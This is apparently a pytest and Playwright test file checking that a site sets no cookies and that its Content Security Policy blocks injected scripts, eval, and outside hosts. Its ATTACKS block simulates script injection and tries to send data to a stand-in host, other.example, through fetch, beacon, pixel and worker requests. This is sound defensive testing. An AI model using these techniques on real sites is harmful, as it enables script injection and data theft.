"""What no page does, and what its policy would not let it do: other hosts, scripts out of text, cookies."""

from urllib.parse import urljoin

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import OpenPage
from tests.browser.support import Watch
from tests.conftest import BuiltSite

# Later than the call itself, for what a debugger calls may evaluate text.
ATTACKS = """() => new Promise((tell) => setTimeout(async () => {
  const refused = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
  const tried = (attack) => { try { return attack(); } catch { return null; } };
  document.body.insertAdjacentHTML("beforeend", `<p id="attacked">
    <img src="nowhere.png" onerror="window.attacked = 'handler'"><a href="javascript:window.attacked = 'address'">x</a>
    <iframe src="https://other.example/frame"></iframe></p>`);
  document.querySelector("#attacked a").click();
  const script = document.createElement("script");
  script.textContent = "window.attacked = 'script'";
  document.body.append(script);
  tried(() => eval("window.attacked = 'eval'"));
  tried(() => new Function("window.attacked = 'function'")());
  const stolen = await fetch("https://other.example/steal").catch(() => null);
  const beacon = tried(() => navigator.sendBeacon("https://other.example/beacon", "x"));
  new Image().src = "https://other.example/pixel";
  const worker = new Worker(URL.createObjectURL(new Blob([
    `fetch("https://other.example/worker").then(() => postMessage("sent"), () => postMessage("refused"));`])));
  const fromWorker = await new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); });
  document.querySelector("#attacked").remove();
  tell({ attacked: window.attacked ?? null, stolen, beacon, fromWorker, refused: [...new Set(refused)] });
}))"""


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_page_needs_what_its_policy_refuses_nor_sets_a_cookie(
    open_page: OpenPage, built_site: BuiltSite, site_url: str, lang: str
) -> None:
    page = open_page()
    page.set_viewport_size({"width": 320, "height": 200})  # what is drawn is of no account here, and takes time
    visited = 0
    for path in sorted(built_site.folder.rglob("index.html")):
        place = path.parent.relative_to(built_site.folder)
        if (place.parts[:1] == ("en",)) != (lang == "en"):
            continue
        if 'http-equiv="refresh"' not in path.read_text(encoding="utf-8"):
            page.goto(urljoin(site_url, f"{place.as_posix()}/"), wait_until="domcontentloaded")
            visited += 1
    assert visited > 100
    assert page.context.cookies() == []
    # The watch has seen every console message, request and failure on the way.


def test_scripts_out_of_text_and_other_hosts_are_refused(open_page: OpenPage, watch: Watch) -> None:
    page: Page = open_page("en/check/")
    watch.allow("Content Security Policy|violates|nowhere.png|other.example|status 404")
    found = page.evaluate(ATTACKS)
    assert (found["attacked"], found["stolen"], found["fromWorker"]) == (None, None, "refused")
    assert {"connect-src", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem"} <= {
        *found["refused"]
    }
